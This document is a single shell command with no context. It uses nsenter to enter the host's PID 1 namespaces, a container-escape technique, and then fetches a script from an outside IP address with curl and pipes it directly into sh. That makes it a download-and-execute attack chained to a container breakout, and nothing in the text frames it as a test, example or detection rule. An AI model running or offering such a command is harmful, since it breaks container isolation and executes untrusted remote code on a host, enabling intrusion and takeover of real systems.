nsenter -t 1 -m -u -n -i sh -c 'curl -s http://203.0.113.7/i.sh | sh'
